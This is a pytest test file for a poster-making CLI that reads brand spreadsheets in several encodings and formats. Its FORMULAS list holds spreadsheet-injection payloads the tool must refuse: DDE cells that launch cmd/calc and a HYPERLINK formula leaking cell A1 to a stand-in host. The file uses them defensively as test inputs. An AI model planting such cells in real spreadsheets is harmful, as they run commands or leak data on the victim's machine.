"""Spreadsheets as officers save them: an Excel workbook, Excel's "CSV" (Windows-1258) and
"Unicode Text" (UTF-16, tab-separated), Vietnamese column headers, a notes column, and
cells that look like formulas. The same sheet in every form gives the same posters."""

from __future__ import annotations

import codecs
import csv
import io
import shutil
import unicodedata
from pathlib import Path

import pytest
from conftest import pdf_text, run_cli

BRAND_DIR = Path(__file__).resolve().parents[1] / "content" / "brands"
TONES = "\u0300\u0301\u0303\u0309\u0323"  # grave, acute, tilde, hook above, dot below


def cp1258(text: str) -> bytes:
    """Text as Excel writes it on a Vietnamese Windows: Windows-1258, where a letter
    carries its shape (ê, ơ, ư…) and the tone mark follows it as a combining character."""
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            tone = "".join(c for c in parts if c in TONES)
            base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONES))
            out += base.encode("cp1258") + tone.encode("cp1258")
    return bytes(out)


def example_rows() -> list[list[str]]:
    with (BRAND_DIR / "examples.csv").open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def as_csv(rows: list[list[str]], sep: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=sep, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


VIETNAMESE = ["Tên", "CƠ QUAN", "Logo", "Màu chủ đạo", "màu trái", "Màu Phải", "Màu chữ",
              "Địa chỉ QR", "Chú thích QR", "Chân trang"]  # fmt: skip


def _forms(folder: Path) -> dict[str, Path]:
    rows = example_rows()
    assert rows[0][0] == "name" and len(rows[0]) == len(VIETNAMESE)
    shutil.copy(BRAND_DIR / "placeholder-emblem.png", folder)
    text = as_csv(rows)
    cp = folder / "windows-1258.csv"
    cp.write_bytes(cp1258(text))
    assert b"\xd2" in cp.read_bytes() or b"\xec" in cp.read_bytes()  # combining tone marks
    with pytest.raises(UnicodeDecodeError):
        cp.read_bytes().decode("utf-8")
    tsv = folder / "unicode-text.txt"
    tsv.write_bytes(codecs.BOM_UTF16_LE + as_csv(rows, "\t").encode("utf-16-le"))
    notes = folder / "tieng-viet.csv"
    vi_rows = [[*VIETNAMESE, "Ghi chú"]] + [[*r, f"ghi chú {i}"] for i, r in enumerate(rows[1:])]
    notes.write_text(as_csv(vi_rows), encoding="utf-8")
    xlsx = folder / "examples.xlsx"
    shutil.copy(BRAND_DIR / "examples.xlsx", xlsx)
    return {"xlsx": xlsx, "cp1258": cp, "utf16": tsv, "vietnamese": notes}


def test_every_form_of_the_sheet_renders_the_same_posters(tmp_path):
    reference = tmp_path / "ref"
    done = run_cli("batch", "--brands", BRAND_DIR / "examples.csv", "--layout", "a3-portrait",
                   "-j", "2", "-o", reference)  # fmt: skip
    assert done.returncode == 0, done.stderr
    expected = {p.name: p.read_bytes() for p in reference.glob("*.pdf")}
    assert len(expected) == len(example_rows()) - 1 == 4
    assert "UBND THÀNH PHỐ CẨM PHẢ" in pdf_text(reference / "a3-portrait-cam-pha.pdf")
    for kind, sheet in _forms(tmp_path).items():
        out = tmp_path / kind
        done = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-j", "2", "-o", out)
        assert done.returncode == 0, (kind, done.stderr)
        got = {p.name: p.read_bytes() for p in out.glob("*.pdf")}
        assert got.keys() == expected.keys(), kind
        for name, data in expected.items():
            assert got[name] == data, (kind, name)
        warnings = [ln for ln in done.stderr.splitlines() if ln.startswith("warning:")]
        if kind == "vietnamese":  # the notes column: one warning naming it, and no more
            assert warnings == [f"warning: {sheet}:1: columns ignored (not brand fields): Ghi chú"]
        else:
            assert warnings == [], (kind, done.stderr)


def test_formula_cells_are_refused_for_their_row_only(tmp_path):
    rows = [
        ["Tên", "Chân trang", "Ghi chú"],
        ["Xã Một", "- Phòng Văn hóa xã", ""],  # a dash before text is text
        ["Xã Hai", '=HYPERLINK("http://x.example","bấm")', ""],
        ["Xã Ba", "+SUM(A1:A3)", ""],
        ["Xã Bốn", "@A1", ""],
        ["Xã Năm", "-2+3", ""],
        ["Xã Sáu", "", "=1+1"],  # an ignored column is not read
    ]
    sheet = tmp_path / "f.csv"
    sheet.write_text(as_csv(rows, ";"), encoding="utf-8")
    out = tmp_path / "o"
    done = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-o", out)
    assert done.returncode == 1
    refused = [ln for ln in done.stderr.splitlines() if "looks like" in ln]
    assert refused == [
        'f.csv:3: footer: looks like a spreadsheet formula: \'=HYPERLINK("http://x.example",'
        '"bấm")\' (type the value itself, without the leading sign)',
        "f.csv:4: footer: looks like a spreadsheet formula: '+SUM(A1:A3)' "
        "(type the value itself, without the leading sign)",
        "f.csv:5: footer: looks like a spreadsheet formula: '@A1' "
        "(type the value itself, without the leading sign)",
        "f.csv:6: footer: looks like a spreadsheet formula: '-2+3' "
        "(type the value itself, without the leading sign)",
    ]
    assert sorted(p.name for p in out.glob("*.pdf")) == [
        "a3-portrait-xa-mot.pdf", "a3-portrait-xa-sau.pdf"
    ]  # fmt: skip
    assert "- Phòng Văn hóa xã" in pdf_text(out / "a3-portrait-xa-mot.pdf")
    vi = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-o", out,
                 lang="vi_VN.UTF-8")  # fmt: skip
    assert "f.csv:4: footer: trông như một công thức bảng tính: '+SUM(A1:A3)'" in vi.stderr
    assert "cảnh báo:" in vi.stderr and "bỏ qua các cột không dùng đến: Ghi chú" in vi.stderr
    # the second run: the two good rows are unchanged, four rows fail again
    assert vi.stdout.startswith("đã tạo 0, bỏ qua 2 (không đổi), lỗi 4, trong "), vi.stdout


def test_a_sheet_without_a_name_column_and_an_old_excel_file(tmp_path):
    sheet = tmp_path / "x.csv"
    sheet.write_text("Cơ quan,Ghi chú\nUBND XÃ A,x\n", encoding="utf-8")
    done = run_cli("batch", "--brands", sheet, "-o", tmp_path / "o")
    assert done.returncode == 2
    assert f"{sheet}:1: name: the header has no 'name' column" in done.stderr.splitlines()
    old = tmp_path / "x.xls"
    old.write_bytes(b"\xd0\xcf\x11\xe0")
    done = run_cli("batch", "--brands", old, "-o", tmp_path / "o", lang="vi_VN.UTF-8")
    assert done.returncode == 2
    assert "hãy lưu lại ở dạng .xlsx" in done.stderr
    broken = tmp_path / "hong.xlsx"
    broken.write_bytes(b"PK\x03\x04 not a workbook")
    done = run_cli("batch", "--brands", broken, "-o", tmp_path / "o")
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.startswith(f"{broken}: not a readable workbook")


def test_a_one_row_windows_1258_sheet(tmp_path):
    # short enough that an encoding guesser takes it for Shift-JIS; the fixed rule does not
    sheet = tmp_path / "mot-dong.csv"
    sheet.write_bytes(cp1258("Tên,Cơ quan\r\nXã Tân Lập,UBND XÃ TÂN LẬP | TỈNH PHÚ THỌ\r\n"))
    out = tmp_path / "o"
    done = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-o", out)
    assert done.returncode == 0, done.stderr
    text = pdf_text(out / "a3-portrait-xa-tan-lap.pdf")
    assert "UBND XÃ TÂN LẬP" in text and "TỈNH PHÚ THỌ" in text


# ---------------------------------------------------------------- as officers export them


def _names(out: Path) -> list[str]:
    return sorted(p.name for p in out.glob("*.pdf"))


def test_quoted_cells_with_line_breaks_are_read_as_in_the_file(tmp_path):
    """Alt+Enter in Excel is a line break inside a quoted cell (LF; CR LF or CR from
    other programs): the row is one row, its number the spreadsheet's, and a break in
    the authority cell starts a new authority line."""
    sheet = tmp_path / "xuong-dong.csv"
    sheet.write_bytes(
        (
            "name,authority,footer\r\n"
            '"Xã Một","UBND XÃ MỘT\nTỈNH BẮC NINH",Chân trang một\r\n'
            '"Xã Hai","UBND XÃ HAI\r\nTỈNH BẮC NINH","Chân trang\rhai dòng"\r\n'
            "Xã Ba,UBND XÃ BA,Chân trang ba\r\n"
            'Xã Bốn,"UBND XÃ BỐN\n\nTỈNH BẮC NINH","ghi\n""chú"" dài"\r\n'
            "Xã Năm,UBND XÃ NĂM,=1+1\r\n"
        ).encode()
    )
    out = tmp_path / "out"
    done = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-j", "2", "-o", out)
    assert done.returncode == 1, done.stderr
    # the sixth row of the sheet, the ninth line of the file
    assert "xuong-dong.csv:6: footer: looks like a spreadsheet formula: '=1+1'" in done.stderr
    assert "quote" not in done.stderr
    assert _names(out) == [
        "a3-portrait-xa-ba.pdf", "a3-portrait-xa-bon.pdf", "a3-portrait-xa-hai.pdf",
        "a3-portrait-xa-mot.pdf",
    ]  # fmt: skip
    for slug, authority, footer in [
        ("xa-mot", "UBND XÃ MỘT TỈNH BẮC NINH", "Chân trang một"),
        ("xa-hai", "UBND XÃ HAI TỈNH BẮC NINH", "Chân trang hai dòng"),
        ("xa-bon", "UBND XÃ BỐN TỈNH BẮC NINH", 'ghi "chú" dài'),
    ]:
        text = pdf_text(out / f"a3-portrait-{slug}.pdf")
        assert authority in text and footer in text, (slug, text[:300])


def test_an_unclosed_quote_spoils_its_row_only_even_among_line_breaks(tmp_path):
    sheet = tmp_path / "ngoac.csv"
    sheet.write_text(
        'name,authority\nXã Một,"UBND\nXÃ MỘT"\n"Xã Hai,UBND XÃ HAI\nXã Ba,UBND XÃ BA\n',
        encoding="utf-8",
    )
    out = tmp_path / "out"
    done = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-o", out)
    assert done.returncode == 1, done.stderr
    assert 'ngoac.csv:3: a quote (") is opened and not closed on this row' in done.stderr
    assert _names(out) == ["a3-portrait-xa-ba.pdf", "a3-portrait-xa-mot.pdf"]


def _workbook(path: Path, sheets: list[tuple[str, str, list[list[str]]]], active: int) -> Path:
    """A workbook of (title, state, rows) sheets, `active` the sheet shown on opening."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for title, state, rows in sheets:
        sheet = book.create_sheet(title)
        sheet.sheet_state = state
        for row in rows:
            sheet.append(row)
    book.active = active
    book.save(path)
    return path


def test_a_workbook_with_a_hidden_first_sheet_renders_the_visible_one(tmp_path):
    book = _workbook(tmp_path / "an.xlsx", [
        ("Cũ", "hidden", [["Tên"], ["Xã Ẩn"]]),
        ("Đơn vị", "visible", [["Tên", "Cơ quan"], ["Xã Hiện", "UBND XÃ HIỆN"]]),
        ("Nháp", "veryHidden", [["Tên"], ["Xã Nháp"]]),
    ], active=1)  # fmt: skip
    out = tmp_path / "out"
    done = run_cli("batch", "--brands", book, "--layout", "a3-portrait", "-o", out)
    assert done.returncode == 0, done.stderr
    assert _names(out) == ["a3-portrait-xa-hien.pdf"]
    assert (
        f"{book}: reading the sheet 'Đơn vị' (the active sheet); hidden sheets ignored: "
        "'Cũ', 'Nháp'"
    ) in done.stderr.splitlines()
    vi = run_cli("batch", "--brands", book, "-o", out, lang="vi_VN.UTF-8")
    assert f"{book}: đọc trang tính 'Đơn vị' (trang đang chọn); bỏ qua các trang bị ẩn: " in (
        vi.stderr
    )
    # a workbook (not Excel's) whose active sheet is hidden: the first visible one
    odd = _workbook(tmp_path / "la.xlsx", [
        ("Ẩn", "hidden", [["Tên"], ["Xã Ẩn"]]), ("Hiện", "visible", [["Tên"], ["Xã Hiện"]]),
    ], active=0)  # fmt: skip
    done = run_cli("batch", "--brands", odd, "--layout", "a3-portrait", "-o", tmp_path / "o2")
    assert done.returncode == 0, done.stderr
    assert _names(tmp_path / "o2") == ["a3-portrait-xa-hien.pdf"]
    # every sheet hidden, which openpyxl will not write: its workbook.xml edited after
    import zipfile

    odd_zip = zipfile.ZipFile(odd)
    parts = {name: odd_zip.read(name) for name in odd_zip.namelist()}
    odd_zip.close()
    wb = parts["xl/workbook.xml"].decode()
    assert wb.count('state="hidden"') == wb.count('state="visible"') == 1
    parts["xl/workbook.xml"] = wb.replace('state="visible"', 'state="hidden"').encode()
    hidden = tmp_path / "het.xlsx"
    with zipfile.ZipFile(hidden, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    done = run_cli("batch", "--brands", hidden, "-o", tmp_path / "o3")
    assert done.returncode == 2
    assert done.stderr == f"{hidden}: every sheet of the workbook is hidden: unhide the " \
        "sheet of brands (right-click a sheet tab, Unhide)\n"  # fmt: skip


FORMULAS = [  # (column, cell): each refuses its row
    ("footer", "=1+1"),
    ("footer", " =1+1"),
    ("footer", "+SUM(A1:A3)"),
    ("footer", "-2+3"),
    ("footer", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("footer", "\t=1+1"),
    ("footer", "\tXã"),
    ("footer", "\r=1+1"),
    ("footer", "+cmd|' /C calc'!A0"),
    ("footer", "-cmd|' /C calc'!A0"),
    ("footer", "@cmd|'/C notepad'!A0"),
    ("footer", '=HYPERLINK("http://x.example/?leak="&A1,"bấm")'),
    ("footer", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'),
    ("footer", "＝1+1"),
    ("footer", "+Sheet2!A1"),
    ("footer", "-'Tờ 2'!B3"),
    ("footer", "@A1"),
    ("footer", "+$B$2"),
    ("authority", "+cmd|' /C calc'!A0 | TỈNH X"),
    ("qr_caption", "-1+1"),
    ("name", "-Xã Một"),
    ("name", "+Xã Hai"),
    ("name", "@Xã Ba"),
    ("primary", "+1"),
    ("qr_url", "-https://x.vn"),
    ("logo", "@logo.png"),
]
TEXTS = [  # (column, cell): text that starts with a sign, rendered as written
    ("authority", "- UBND XÃ TÁM"),
    ("footer", "- Phòng Văn hóa xã"),
    ("footer", "+84 912 345 678"),
    ("qr_caption", "@ubndxachin trên Zalo"),
    ("footer", "-- hết --"),
]


def test_every_formula_form_is_refused_for_its_row_and_signed_text_is_not(tmp_path):
    header = ["name", "authority", "footer", "qr_caption", "primary", "qr_url", "logo"]
    rows = [header]
    for i, (column, cell) in enumerate(FORMULAS + TEXTS):
        row = {"name": f"Xã Số {i}", column: cell}
        rows.append([row.get(h, "") for h in header])
    sheet = tmp_path / "cong-thuc.csv"
    sheet.write_text(as_csv(rows), encoding="utf-8")
    out = tmp_path / "out"
    done = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-j", "2", "-o", out)
    assert done.returncode == 1, done.stderr
    refused = {ln.split(": ", 1)[0]: ln for ln in done.stderr.splitlines() if "formula" in ln}
    for i, (column, cell) in enumerate(FORMULAS):
        line = refused.pop(f"cong-thuc.csv:{i + 2}", None)
        assert line == (
            f"cong-thuc.csv:{i + 2}: {column}: looks like a spreadsheet formula: {cell!r} "
            "(type the value itself, without the leading sign)"
        ), (cell, line)
    assert not refused, refused
    slugs = [f"a3-portrait-xa-so-{len(FORMULAS) + i}.pdf" for i in range(len(TEXTS))]
    assert _names(out) == sorted(slugs)
    for slug, (_, cell) in zip(slugs, TEXTS, strict=True):
        assert cell in pdf_text(out / slug), (cell, slug)


def test_a_formula_cell_of_a_workbook_is_refused_for_its_row(tmp_path):
    book = _workbook(tmp_path / "ct.xlsx", [("Đơn vị", "visible", [
        ["Tên", "Chân trang"], ["Xã Một", "=CONCAT(\"a\",\"b\")"], ["Xã Hai", "Chân trang"],
    ])], 0)  # fmt: skip
    out = tmp_path / "out"
    done = run_cli("batch", "--brands", book, "--layout", "a3-portrait", "-o", out)
    assert done.returncode == 1, done.stderr
    assert 'ct.xlsx:2: footer: looks like a spreadsheet formula: \'=CONCAT("a","b")\'' in (
        done.stderr
    )
    assert _names(out) == ["a3-portrait-xa-hai.pdf"]


def test_a_header_under_a_merged_title_row_is_found(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Danh sách"
    sheet.append(["DANH SÁCH ĐƠN VỊ IN ÁP PHÍCH"])
    sheet.merge_cells("A1:D1")
    sheet.append([])
    sheet.append(["STT", "Tên đơn vị", "Cơ quan", "Màu chủ đạo"])
    sheet.append([1, "Xã Một", "UBND XÃ MỘT", "#0B4F8A"])
    sheet.append([2, "Xã Hai", "UBND XÃ HAI", "đỏ"])
    path = tmp_path / "tieu-de.xlsx"
    book.save(path)
    out = tmp_path / "out"
    done = run_cli("batch", "--brands", path, "--layout", "a3-portrait", "-o", out)
    assert done.returncode == 1, done.stderr
    # the rows as the sheet numbers them; the numbering column ignored with one warning
    assert "tieu-de.xlsx:5: primary: not a colour: 'đỏ'" in done.stderr
    assert f"warning: {path}:3: columns ignored (not brand fields): STT" in done.stderr
    assert _names(out) == ["a3-portrait-xa-mot.pdf"]
    # a CSV export of such a sheet: the title line, semicolons, the header on line 3
    text = tmp_path / "tieu-de.csv"
    text.write_text("DANH SÁCH ĐƠN VỊ;;\n;;\nTên;Cơ quan;Ghi chú\nXã Ba;UBND XÃ BA;\n", "utf-8")
    done = run_cli("batch", "--brands", text, "--layout", "a3-portrait", "-o", out)
    assert done.returncode == 0, done.stderr
    assert "UBND XÃ BA" in pdf_text(out / "a3-portrait-xa-ba.pdf")


def test_a_header_too_far_down_is_refused_saying_where_it_must_be(tmp_path):
    sheet = tmp_path / "xa.csv"
    sheet.write_text("Ghi chú\n" * 10 + "Tên,Cơ quan\nXã Một,UBND XÃ MỘT\n", encoding="utf-8")
    done = run_cli("batch", "--brands", sheet, "-o", tmp_path / "out")
    assert done.returncode == 2
    assert done.stderr == (
        f"{sheet}: name: no header row in the first 10 rows: put the column names (name or "
        "Tên, authority or Cơ quan, …) in one of the first 10 rows\n"
    )
    vi = run_cli("batch", "--brands", sheet, "-o", tmp_path / "out", lang="vi_VN.UTF-8")
    assert "không thấy dòng tiêu đề trong 10 dòng đầu" in vi.stderr
